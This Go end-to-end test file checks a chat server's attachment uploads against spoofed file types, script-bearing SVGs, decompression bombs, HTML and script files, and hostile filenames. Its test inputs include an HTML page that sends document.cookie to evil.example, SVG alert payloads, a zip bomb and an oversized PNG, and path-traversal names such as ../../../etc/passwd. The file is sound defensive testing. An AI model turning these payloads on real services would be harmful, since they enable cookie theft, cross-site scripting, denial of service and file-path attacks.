package e2e

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	bigendian "encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"strings"
	"testing"

	"github.com/xcord/xcord/engine/wire"
)

// TestSecurity_upload attaches what is not what it says. One scene for all of it, in one process and divided.
func TestSecurity_upload(t *testing.T) {
	t.Parallel()
	for name, world := range topologies {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := newScene(t, world(t))
			attack(t, "upload_magic", s.falseTypes)
			attack(t, "upload_svg", s.programsAsPictures)
			attack(t, "upload_zip_bomb", s.bombs)
			attack(t, "upload_disposition", s.pagesAsFiles)
		})
	}
}

// attach sends a file whose type and name the client claims, and returns what the message says of it and what is served.
func (s *scene) attach(t *testing.T, name, claimed, content string) (wire.Attachment, answer) {
	t.Helper()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	part, err := w.CreatePart(textproto.MIMEHeader{
		"Content-Disposition": {fmt.Sprintf(`form-data; name="files[0]"; filename="%s"`, name)}, "Content-Type": {claimed},
	})
	if err == nil {
		_, err = io.WriteString(part, content)
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	a := s.hail(t, s.url, "POST", "/api/v10/channels/"+s.other.String()+"/messages", body.String(),
		"Authorization", s.ada.token, "Content-Type", w.FormDataContentType())
	var m wire.Message
	if err := json.Unmarshal(a.body, &m); err != nil || len(m.Attachments) != 1 {
		t.Fatalf("%s: %d %s", name, a.status, a.body)
	}
	return m.Attachments[0], s.served(t, m.Attachments[0].URL)
}

// served gets an attachment as a browser without any token does, and sees to what every answer of that kind must have.
func (s *scene) served(t *testing.T, address string) answer {
	t.Helper()
	path, ok := strings.CutPrefix(address, s.url+"/attachments/")
	if !ok {
		t.Fatalf("the address %q is not of %s", address, s.url)
	}
	a := s.hail(t, s.url, "GET", "/attachments/"+path, "")
	if a.status != http.StatusOK {
		t.Fatalf("%s: %d %s", address, a.status, a.body)
	}
	for header, want := range map[string]string{
		"X-Content-Type-Options": "nosniff", "Content-Security-Policy": "sandbox; default-src 'none'", "X-Frame-Options": "DENY",
		"Referrer-Policy": "no-referrer", "Access-Control-Allow-Origin": "", "Set-Cookie": "",
	} {
		if got := a.header.Get(header); got != want {
			t.Errorf("%s: %s is %q, want %q", address, header, got, want)
		}
	}
	if !strings.HasPrefix(a.header.Get("Cache-Control"), "private") {
		t.Errorf("%s: others may keep it: %q", address, a.header.Get("Cache-Control"))
	}
	return a
}

// mustSave says that a browser does nothing with a file but save it.
func mustSave(t *testing.T, what string, a answer) {
	t.Helper()
	kind := a.header.Get("Content-Type")
	for _, runs := range []string{"html", "xml", "svg", "javascript", "image/", "multipart"} {
		if strings.Contains(kind, runs) {
			t.Errorf("%s is served as %s", what, kind)
		}
	}
	if got := a.header.Get("Content-Disposition"); !strings.HasPrefix(got, "attachment; filename=") {
		t.Errorf("%s is shown: %q", what, got)
	}
}

const page = `<!doctype html><html><body><script>fetch("//evil.example/"+document.cookie)</script></body></html>`

// gif is a picture of 1 × 1.
const gif = "GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"

func (s *scene) falseTypes(t *testing.T) {
	for what, content := range map[string]string{
		"a page": page, "a program": "\x7fELF\x02\x01\x01", "the beginning of a picture": "\x89PNG\r\n\x1a\n" + page, "a GIF's first word": "GIF89a" + page,
		"a JPEG's first word": "\xff\xd8\xff\xe0" + page, "WebP's": "RIFF\xff\xff\x00\x00WEBPVP8 " + page, "a bitmap": "BM" + page, "nothing": "",
	} {
		said, got := s.attach(t, "cat.png", "image/png", content)
		if strings.HasPrefix(said.ContentType, "image/") || said.Width != 0 {
			t.Errorf("%s: the message calls it %s", what, said.ContentType)
		}
		mustSave(t, what, got)
		if string(got.body) != content {
			t.Errorf("%s came back as something else", what)
		}
	}
	// A picture is one whatever its sender calls it, and a page behind it is never read as one.
	said, got := s.attach(t, "page.html", "text/html", gif+page)
	if said.ContentType != "image/gif" || got.header.Get("Content-Type") != "image/gif" || said.Width != 1 {
		t.Errorf("a picture with a page behind it: %+v, served as %s", said, got.header.Get("Content-Type"))
	}
}

func (s *scene) programsAsPictures(t *testing.T) {
	const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`
	for what, content := range map[string]string{
		"a picture.svg": svg, "with a declaration.svg": `<?xml version="1.0"?>` + svg, "with a mark.svg": "\xef\xbb\xbf" + svg, "spaces.png": "\n\n  " + svg,
	} {
		said, got := s.attach(t, what, "image/svg+xml", content)
		if strings.Contains(said.ContentType, "svg") || strings.Contains(said.ContentType, "xml") {
			t.Errorf("%s: the message calls it %s", what, said.ContentType)
		}
		mustSave(t, what, got)
	}
}

// hugePNG says to have 60,000 × 60,000 pixels: 3.6 GB, in 100 bytes.
func hugePNG() string {
	head := append([]byte("IHDR"), 0, 0, 0xea, 0x60, 0, 0, 0xea, 0x60, 8, 0, 0, 0, 0)
	out := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), head...)
	return string(bigendian.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(head)))
}

func (s *scene) bombs(t *testing.T) {
	var zipped bytes.Buffer
	z := zip.NewWriter(&zipped)
	f, err := z.Create("zeros")
	if err == nil {
		_, err = io.CopyN(f, zeros{}, 64<<20)
	}
	if err == nil {
		err = z.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	bombs := map[string]string{"bomb.zip": zipped.String(), "bomb.png": hugePNG(), "bomb.gif": "GIF89a\xff\xff\xff\xff\x80\x00\x00" + gif[13:]}
	for name, content := range bombs {
		said, got := s.attach(t, name, "image/png", content)
		if said.Width != 0 || said.Height != 0 {
			t.Errorf("%s is a picture of %d × %d", name, said.Width, said.Height)
		}
		mustSave(t, name, got)
		if int64(len(got.body)) != said.Size || string(got.body) != content {
			t.Errorf("%s: %d bytes came back of %d", name, len(got.body), len(content))
		}
	}
	// A form that unpacks is not even looked at.
	var packed bytes.Buffer
	g := gzip.NewWriter(&packed)
	if _, err := io.CopyN(g, zeros{}, 8<<20); err != nil || g.Close() != nil {
		t.Fatal(err)
	}
	a := s.hail(t, s.url, "POST", "/api/v10/channels/"+s.other.String()+"/messages", packed.String(),
		"Authorization", s.ada.token, "Content-Type", "multipart/form-data; boundary=b", "Content-Encoding", "gzip")
	if a.status != http.StatusUnsupportedMediaType {
		t.Errorf("a form that unpacks: %d %s", a.status, a.body)
	}
}

// zeros never ends.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

func (s *scene) pagesAsFiles(t *testing.T) {
	for name, content := range map[string]string{
		"index.html": page, "page.xhtml": `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>`, "run.js": "alert(1)", "a.pdf": "%PDF-1.7 /JavaScript",
		"sheet.xsl": `<?xml-stylesheet href="x"?>`, "mail.mht": "MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n", "x.swf": "CWS\x0a",
	} {
		_, got := s.attach(t, name, "text/html", content)
		mustSave(t, name, got)
	}
	// Names that would end the header, the quotes or the directory.
	for name, want := range map[string]string{
		`a%22; x=%22.html`: "a_22__x__22.html", "../../../etc/passwd": "passwd", `..\..\boot.ini`: "boot.ini", ".htaccess": "htaccess", "a\u202efdp.exe": "a_fdp.exe",
		"a;b,c.txt": "a_b_c.txt", "ünïcode.txt": "ünïcode.txt",
	} {
		said, got := s.attach(t, name, "text/plain", "x")
		if said.Filename != want {
			t.Errorf("%q is called %q, want %q", name, said.Filename, want)
		}
		if head := got.header.Get("Content-Disposition"); strings.Count(head, `"`) != 2 || strings.ContainsAny(head, "\r\n") {
			t.Errorf("%q: %s", name, head)
		}
	}
}
